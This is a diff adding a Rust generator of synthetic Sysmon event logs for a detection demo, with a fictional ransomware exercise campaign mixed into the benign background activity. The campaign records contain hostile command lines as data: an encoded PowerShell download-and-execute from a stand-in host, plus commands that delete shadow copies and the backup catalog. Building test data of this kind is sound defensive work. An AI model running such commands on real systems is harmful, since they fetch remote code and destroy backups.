@@ -1,0 +1,667 @@
+//! A realistic, reproducible workload: Windows (Sysmon-shaped) events of many hosts in many
+//! organisations across NIS2 sectors and EU member states, with the NIGHTGLASS exercise
+//! campaign mixed in.
+//!
+//! Background activity is ordinary office and server life — browsers, Office, services,
+//! DNS lookups, network connections, file writes — including some administrative noise
+//! that generic rules do flag (an admin's `whoami`, a management agent's encoded
+//! PowerShell, `vssadmin list shadows`), so that a demo can show those detections do not
+//! become warnings. The campaign is a phishing-delivered loader followed by ransomware at
+//! six organisations in three sectors and six member states over a few hours; all its
+//! infrastructure uses documentation address ranges and reserved names.
+//!
+//! The output is a pure function of (seed, event count): a SplitMix64 generator, a fixed
+//! base time, no wall clock.
+
+use std::io::Write;
+
+use anyhow::Result;
+
+use tocsin_core::Timestamp;
+
+/// SplitMix64: small, fast, and the same on every platform.
+pub struct Rng(u64);
+
+impl Rng {
+    pub fn new(seed: u64) -> Self {
+        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
+    }
+
+    pub fn next_u64(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        z ^ (z >> 31)
+    }
+
+    pub fn below(&mut self, n: u64) -> u64 {
+        ((self.next_u64() as u128 * n as u128) >> 64) as u64
+    }
+
+    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
+        &xs[self.below(xs.len() as u64) as usize]
+    }
+}
+
+/// An organisation: display name, host prefix, NIS2 sector slug, member state.
+pub struct Org {
+    pub name: &'static str,
+    pub short: &'static str,
+    pub sector: &'static str,
+    pub member_state: &'static str,
+}
+
+const fn org(
+    name: &'static str,
+    short: &'static str,
+    sector: &'static str,
+    member_state: &'static str,
+) -> Org {
+    Org {
+        name,
+        short,
+        sector,
+        member_state,
+    }
+}
+
+/// The organisations of the workload (fictional). The first six are the campaign's victims.
+pub const ORGS: &[Org] = &[
+    org("Klinikum Nordstadt", "KLN", "health", "DE"),
+    org("Hopital Saint-Aubin", "HSA", "health", "FR"),
+    org("Rete Elettrica Adriatica", "REA", "energy", "IT"),
+    org(
+        "Rijksdienst Digitale Zaken",
+        "RDZ",
+        "public-administration",
+        "NL",
+    ),
+    org("Energie Vltava", "EVL", "energy", "CZ"),
+    org(
+        "Agencia Tributaria del Sur",
+        "ATS",
+        "public-administration",
+        "ES",
+    ),
+    org("Universitaetsklinikum Rheinland", "UKR", "health", "DE"),
+    org("Stadtwerke Oberau", "SWO", "energy", "DE"),
+    org(
+        "Bundesamt fuer Statistikdienste",
+        "BFS",
+        "public-administration",
+        "DE",
+    ),
+    org("Banque Lemaire", "BLM", "banking", "FR"),
+    org("Eaux de Lorraine", "EDL", "drinking-water", "FR"),
+    org("Prefecture Numerique", "PRN", "public-administration", "FR"),
+    org("Ospedale San Marco", "OSM", "health", "IT"),
+    org("Ferrovie Ligure", "FRL", "transport", "IT"),
+    org("Zorggroep Delta", "ZGD", "health", "NL"),
+    org("Havenbedrijf Noordzee", "HBN", "transport", "NL"),
+    org("Nemocnice Brno-Jih", "NBJ", "health", "CZ"),
+    org("Hospital Costa Blanca", "HCB", "health", "ES"),
+    org("Red Electrica Meseta", "REM", "energy", "ES"),
+    org("Szpital Wojewodzki Lublin", "SWL", "health", "PL"),
+    org("Energa Polnoc", "ENP", "energy", "PL"),
+    org("Landeskrankenhaus Steiermark", "LKS", "health", "AT"),
+    org("Wiener Datenzentrum", "WDZ", "digital-infrastructure", "AT"),
+    org("Centre Hospitalier Namur", "CHN", "health", "BE"),
+    org("Elia Transport Sud", "ETS", "energy", "BE"),
+    org("Sairaala Pohjola", "SPO", "health", "FI"),
+    org("Vesilaitos Etela", "VLE", "drinking-water", "FI"),
+    org(
+        "Riigi Infosusteemide Keskus",
+        "RIK",
+        "public-administration",
+        "EE",
+    ),
+    org("Ospidal Reigiunach", "ORG", "health", "IE"),
+    org(
+        "Cloudhost Luxembourg",
+        "CHL",
+        "digital-infrastructure",
+        "LU",
+    ),
+];
+
+/// The campaign's infrastructure (also in rules/iocs/cert-eu-sample.txt).
+pub const C2_DOMAIN: &str = "cdn.invoice-viewer.example";
+pub const C2_IP: &str = "203.0.113.47";
+pub const LOADER_SHA256: &str = "9f2c4b7e1d3a5c6b8e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f";
+/// Victims of the loader stage (indexes into [`ORGS`]) and of the ransomware stage.
+pub const LOADER_VICTIMS: [usize; 6] = [0, 1, 2, 3, 4, 5];
+pub const RANSOM_VICTIMS: [usize; 4] = [0, 2, 3, 4];
+
+const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
+const HOUR: i64 = 3_600_000;
+const SPAN: i64 = 8 * HOUR;
+
+/// The start of the workload's event time.
+pub fn base_time() -> Timestamp {
+    Timestamp::from_civil(2026, 3, 2, 6, 0, 0)
+}
+
+/// A JSON object writer for one flat event.
+struct Obj<'a> {
+    out: &'a mut Vec<u8>,
+    first: bool,
+}
+
+impl<'a> Obj<'a> {
+    fn new(out: &'a mut Vec<u8>) -> Self {
+        out.push(b'{');
+        Obj { out, first: true }
+    }
+
+    fn key(&mut self, k: &str) {
+        if !self.first {
+            self.out.push(b',');
+        }
+        self.first = false;
+        self.out.push(b'"');
+        self.out.extend_from_slice(k.as_bytes());
+        self.out.extend_from_slice(b"\":");
+    }
+
+    fn s(&mut self, k: &str, v: &str) -> &mut Self {
+        self.key(k);
+        self.out.push(b'"');
+        for &b in v.as_bytes() {
+            match b {
+                b'"' => self.out.extend_from_slice(b"\\\""),
+                b'\\' => self.out.extend_from_slice(b"\\\\"),
+                b if b < 0x20 => {
+                    let _ = write!(self.out, "\\u{:04x}", b);
+                }
+                b => self.out.push(b),
+            }
+        }
+        self.out.push(b'"');
+        self
+    }
+
+    fn n(&mut self, k: &str, v: u64) -> &mut Self {
+        self.key(k);
+        let _ = write!(self.out, "{v}");
+        self
+    }
+
+    fn end(&mut self) {
+        self.out.extend_from_slice(b"}\n");
+    }
+}
+
+/// A stable fake SHA-256 for a benign binary name.
+fn fake_sha256(name: &str) -> String {
+    let mut r = Rng::new(name.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
+        (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
+    }));
+    (0..4).map(|_| format!("{:016x}", r.next_u64())).collect()
+}
+
+fn utc_time(t: Timestamp) -> String {
+    // Sysmon's UtcTime: "YYYY-MM-DD HH:MM:SS.mmm".
+    let s = t.to_string();
+    format!("{} {}", &s[..10], &s[11..23])
+}
+
+struct Host<'a> {
+    org: &'a Org,
+    host: String,
+    user: String,
+}
+
+fn header(o: &mut Obj<'_>, t: Timestamp, event_id: u64, h: &Host<'_>) {
+    o.s("@timestamp", &t.to_string())
+        .n("EventID", event_id)
+        .s("Channel", SYSMON)
+        .s("Hostname", &h.host)
+        .s("UtcTime", &utc_time(t))
+        .s("sector", h.org.sector)
+        .s("member_state", h.org.member_state)
+        .s("organisation", h.org.name)
+        .s(
+            "sensor",
+            &format!("sysmon-{}", h.org.short.to_ascii_lowercase()),
+        );
+}
+
+#[allow(clippy::too_many_arguments)]
+fn process(
+    out: &mut Vec<u8>,
+    t: Timestamp,
+    h: &Host<'_>,
+    rng: &mut Rng,
+    image: &str,
+    cmd: &str,
+    parent: &str,
+    integrity: &str,
+    hash: Option<&str>,
+) {
+    let mut o = Obj::new(out);
+    header(&mut o, t, 1, h);
+    let pid = 1000 + rng.below(60_000);
+    let ppid = 500 + rng.below(20_000);
+    let sha = match hash {
+        Some(x) => x.to_owned(),
+        None => fake_sha256(image),
+    };
+    o.n("ProcessId", pid)
+        .s("Image", image)
+        .s("CommandLine", cmd)
+        .s("CurrentDirectory", "C:\\Windows\\system32\\")
+        .s("User", &h.user)
+        .s("IntegrityLevel", integrity)
+        .s(
+            "Hashes",
+            &format!(
+                "SHA256={},IMPHASH={}",
+                sha,
+                &fake_sha256(cmd)[..32].to_ascii_uppercase()
+            ),
+        )
+        .n("ParentProcessId", ppid)
+        .s("ParentImage", parent)
+        .end();
+}
+
+fn network(
+    out: &mut Vec<u8>,
+    t: Timestamp,
+    h: &Host<'_>,
+    rng: &mut Rng,
+    image: &str,
+    ip: &str,
+    host: &str,
+) {
+    let mut o = Obj::new(out);
+    header(&mut o, t, 3, h);
+    o.s("Image", image)
+        .s("User", &h.user)
+        .s("Protocol", "tcp")
+        .s("Initiated", "true")
+        .s(
+            "SourceIp",
+            &format!(
+                "10.{}.{}.{}",
+                rng.below(255),
+                rng.below(255),
+                1 + rng.below(250)
+            ),
+        )
+        .n("SourcePort", 49152 + rng.below(16000))
+        .s("DestinationIp", ip)
+        .s("DestinationHostname", host)
+        .n("DestinationPort", 443)
+        .end();
+}
+
+fn dns(out: &mut Vec<u8>, t: Timestamp, h: &Host<'_>, image: &str, query: &str, result: &str) {
+    let mut o = Obj::new(out);
+    header(&mut o, t, 22, h);
+    o.s("Image", image)
+        .s("QueryName", query)
+        .s("QueryStatus", "0")
+        .s("QueryResults", &format!("::ffff:{result};"))
+        .end();
+}
+
+fn file(out: &mut Vec<u8>, t: Timestamp, h: &Host<'_>, image: &str, target: &str) {
+    let mut o = Obj::new(out);
+    header(&mut o, t, 11, h);
+    o.s("Image", image)
+        .s("TargetFilename", target)
+        .s("User", &h.user)
+        .end();
+}
+
+const CHROME: &str = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
+const EDGE: &str = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
+const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
+const EXCEL: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
+const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
+const TEAMS: &str = "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe";
+const EXPLORER: &str = "C:\\Windows\\explorer.exe";
+const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
+const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
+const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
+const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+const WHOAMI: &str = "C:\\Windows\\System32\\whoami.exe";
+const VSSADMIN: &str = "C:\\Windows\\System32\\vssadmin.exe";
+const WBADMIN: &str = "C:\\Windows\\System32\\wbadmin.exe";
+const CCMEXEC: &str = "C:\\Windows\\CCM\\CcmExec.exe";
+const NOTEPAD: &str = "C:\\Windows\\System32\\notepad.exe";
+
+const BENIGN_DOMAINS: &[&str] = &[
+    "login.microsoftonline.com",
+    "outlook.office365.com",
+    "www.google.com",
+    "update.googleapis.com",
+    "teams.microsoft.com",
+    "ctldl.windowsupdate.com",
+    "www.wikipedia.org",
+    "github.com",
+    "europa.eu",
+    "www.enisa.europa.eu",
+    "cdn.jsdelivr.net",
+    "fonts.gstatic.com",
+    "settings-win.data.microsoft.com",
+    "invoice-portal.example.org",
+];
+
+fn benign_ip(rng: &mut Rng) -> String {
+    let prefixes = [
+        "20.190.151",
+        "13.107.42",
+        "142.250.185",
+        "52.97.146",
+        "151.101.1",
+        "185.199.108",
+    ];
+    format!("{}.{}", rng.pick(&prefixes), 1 + rng.below(250))
+}
+
+fn host_of(org: &'static Org, rng: &mut Rng) -> Host<'static> {
+    let n = rng.below(60);
+    let (host, user) = if n < 6 {
+        (
+            format!("{}-SRV{:02}", org.short, n),
+            format!("{}\\svc_backup", org.short),
+        )
+    } else {
+        (
+            format!("{}-WS{:03}", org.short, n),
+            format!("{}\\user{:03}", org.short, n),
+        )
+    };
+    Host { org, host, user }
+}
+
+/// One background event at time `t`.
+fn background(out: &mut Vec<u8>, t: Timestamp, rng: &mut Rng) {
+    let org = rng.pick(ORGS);
+    let h = host_of(org, rng);
+    let user_dir = format!(
+        "C:\\Users\\{}",
+        h.user.rsplit('\\').next().unwrap_or("user")
+    );
+    let k = rng.below(900);
+    match rng.below(100) {
+        0..=9 => process(
+            out,
+            t,
+            &h,
+            rng,
+            CHROME,
+            &format!("\"{CHROME}\" --type=renderer --lang=en-US --renderer-client-id={k}"),
+            EXPLORER,
+            "Medium",
+            None,
+        ),
+        10..=15 => process(
+            out,
+            t,
+            &h,
+            rng,
+            WORD,
+            &format!("\"{WORD}\" /n \"{user_dir}\\Documents\\report-{k}.docx\""),
+            EXPLORER,
+            "Medium",
+            None,
+        ),
+        16..=19 => process(
+            out,
+            t,
+            &h,
+            rng,
+            EXCEL,
+            &format!("\"{EXCEL}\" \"{user_dir}\\Documents\\budget-{k}.xlsx\""),
+            EXPLORER,
+            "Medium",
+            None,
+        ),
+        20..=27 => process(
+            out,
+            t,
+            &h,
+            rng,
+            SVCHOST,
+            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+            SERVICES,
+            "System",
+            None,
+        ),
+        28..=30 => process(
+            out,
+            t,
+            &h,
+            rng,
+            CMD,
+            &format!("cmd.exe /c dir \"{user_dir}\\Desktop\""),
+            EXPLORER,
+            "Medium",
+            None,
+        ),
+        31..=33 => process(
+            out,
+            t,
+            &h,
+            rng,
+            POWERSHELL,
+            "powershell.exe -NoProfile -Command Get-ChildItem -Path C:\\Shares -Recurse",
+            EXPLORER,
+            "Medium",
+            None,
+        ),
+        34..=35 => process(
+            out,
+            t,
+            &h,
+            rng,
+            NOTEPAD,
+            &format!("notepad.exe \"{user_dir}\\Desktop\\notes.txt\""),
+            EXPLORER,
+            "Medium",
+            None,
+        ),
+        36 => {
+            // Admin noise flagged by generic rules, never by a campaign.
+            match rng.below(10) {
+                0..=4 => process(out, t, &h, rng, WHOAMI, "whoami /all", CMD, "High", None),
+                5..=6 => process(out, t, &h, rng, POWERSHELL, "powershell.exe -NoProfile -NonInteractive -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAQwBjAG0ARQB4AGUAYwA=", CCMEXEC, "System", None),
+                _ => process(out, t, &h, rng, VSSADMIN, "vssadmin.exe list shadows", CMD, "High", None),
+            }
+        }
+        37..=59 => {
+            let (image, host) = match rng.below(4) {
+                0 => (CHROME, *rng.pick(BENIGN_DOMAINS)),
+                1 => (OUTLOOK, "outlook.office365.com"),
+                2 => (TEAMS, "teams.microsoft.com"),
+                _ => (EDGE, *rng.pick(BENIGN_DOMAINS)),
+            };
+            let ip = benign_ip(rng);
+            network(out, t, &h, rng, image, &ip, host)
+        }
+        60..=84 => {
+            let q = *rng.pick(BENIGN_DOMAINS);
+            let image = if rng.below(2) == 0 { CHROME } else { SVCHOST };
+            let ip = benign_ip(rng);
+            dns(out, t, &h, image, q, &ip)
+        }
+        _ => {
+            let (image, target) = match rng.below(3) {
+                0 => (
+                    CHROME,
+                    format!("{user_dir}\\Downloads\\invoice-{}.pdf", rng.below(10_000)),
+                ),
+                1 => (
+                    WORD,
+                    format!(
+                        "{user_dir}\\AppData\\Roaming\\Microsoft\\Word\\~WRL{:04}.tmp",
+                        rng.below(10_000)
+                    ),
+                ),
+                _ => (
+                    EXPLORER,
+                    format!("{user_dir}\\Documents\\scan-{}.png", rng.below(10_000)),
+                ),
+            };
+            file(out, t, &h, image, &target)
+        }
+    }
+}
+
+/// The campaign's events, as (time, JSON line), in time order.
+pub fn campaign_events(seed: u64) -> Vec<(Timestamp, Vec<u8>)> {
+    let mut rng = Rng::new(seed.wrapping_add(0xC0FFEE));
+    let mut events: Vec<(Timestamp, Vec<u8>)> = Vec::new();
+    let base = base_time().0;
+    let mut push = |t: i64, f: &mut dyn FnMut(&mut Vec<u8>, Timestamp)| {
+        let mut buf = Vec::new();
+        let t = Timestamp(t);
+        f(&mut buf, t);
+        events.push((t, buf));
+    };
+    let payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGkAbgB2AG8AaQBjAGUALQB2AGkAZQB3AGUAcgAuAGUAeABhAG0AcABsAGUALwB2ACcAKQA=";
+    for (k, &v) in LOADER_VICTIMS.iter().enumerate() {
+        let org = &ORGS[v];
+        let n = 10 + rng.below(40);
+        let h = Host {
+            org,
+            host: format!("{}-WS{:03}", org.short, n),
+            user: format!("{}\\user{:03}", org.short, n),
+        };
+        let user_dir = format!("C:\\Users\\user{n:03}");
+        let temp_exe = format!("{user_dir}\\AppData\\Local\\Temp\\InvoiceViewer.exe");
+        let t = base + HOUR + k as i64 * 25 * 60_000 + rng.below(120_000) as i64;
+        let mut r = Rng::new(seed ^ k as u64);
+        push(t, &mut |o, at| {
+            process(o, at, &h, &mut r, WORD, &format!("\"{WORD}\" /n \"{user_dir}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1X7\\Invoice_{}.docm\"", 4000 + k), OUTLOOK, "Medium", None)
+        });
+        push(t + 40_000, &mut |o, at| {
+            process(
+                o,
+                at,
+                &h,
+                &mut r,
+                POWERSHELL,
+                &format!("powershell.exe -nop -w hidden -enc {payload}"),
+                WORD,
+                "Medium",
+                None,
+            )
+        });
+        push(t + 45_000, &mut |o, at| {
+            dns(o, at, &h, POWERSHELL, C2_DOMAIN, C2_IP)
+        });
+        push(t + 47_000, &mut |o, at| {
+            network(o, at, &h, &mut r, POWERSHELL, C2_IP, C2_DOMAIN)
+        });
+        push(t + 60_000, &mut |o, at| {
+            file(o, at, &h, POWERSHELL, &temp_exe)
+        });
+        push(t + 65_000, &mut |o, at| {
+            process(
+                o,
+                at,
+                &h,
+                &mut r,
+                &temp_exe,
+                &format!("\"{temp_exe}\" /s"),
+                POWERSHELL,
+                "Medium",
+                Some(LOADER_SHA256),
+            )
+        });
+    }
+    for (k, &v) in RANSOM_VICTIMS.iter().enumerate() {
+        let org = &ORGS[v];
+        let h = Host {
+            org,
+            host: format!("{}-SRV{:02}", org.short, 1 + rng.below(5)),
+            user: format!("{}\\svc_backup", org.short),
+        };
+        let t = base + 3 * HOUR + k as i64 * 20 * 60_000 + rng.below(120_000) as i64;
+        let mut r = Rng::new(seed ^ (100 + k as u64));
+        push(t, &mut |o, at| {
+            process(
+                o,
+                at,
+                &h,
+                &mut r,
+                VSSADMIN,
+                "vssadmin.exe delete shadows /all /quiet",
+                CMD,
+                "High",
+                None,
+            )
+        });
+        push(t + 5_000, &mut |o, at| {
+            process(
+                o,
+                at,
+                &h,
+                &mut r,
+                WBADMIN,
+                "wbadmin delete catalog -quiet",
+                CMD,
+                "High",
+                None,
+            )
+        });
+        push(t + 90_000, &mut |o, at| {
+            file(
+                o,
+                at,
+                &h,
+                "C:\\ProgramData\\svcupd.exe",
+                "C:\\Users\\Public\\Documents\\README_NIGHTGLASS.txt",
+            )
+        });
+    }
+    events.sort_by_key(|(t, _)| *t);
+    events
+}
+
+/// Write `events` background events (with the campaign mixed in, unless `campaign` is
+/// false) as JSON lines to `out`.
+pub fn generate(out: &mut dyn Write, events: u64, seed: u64, campaign: bool) -> Result<u64> {
+    let mut rng = Rng::new(seed);
+    let injected = if campaign {
+        campaign_events(seed)
+    } else {
+        Vec::new()
+    };
+    let mut next = injected.iter().peekable();
+    let mut buf = Vec::with_capacity(1 << 20);
+    let base = base_time().0;
+    let mut written = 0u64;
+    for i in 0..events {
+        let t = Timestamp(
+            base + (i as i128 * SPAN as i128 / events.max(1) as i128) as i64
+                + rng.below(1000) as i64,
+        );
+        while let Some((ct, line)) = next.peek() {
+            if *ct > t {
+                break;
+            }
+            buf.extend_from_slice(line);
+            written += 1;
+            next.next();
+        }
+        background(&mut buf, t, &mut rng);
+        written += 1;
+        if buf.len() > (1 << 20) - 4096 {
+            out.write_all(&buf)?;
+            buf.clear();
+        }
+    }
+    for (_, line) in next {
+        buf.extend_from_slice(line);
+        written += 1;
+    }
+    out.write_all(&buf)?;
+    out.flush()?;
+    Ok(written)
+}
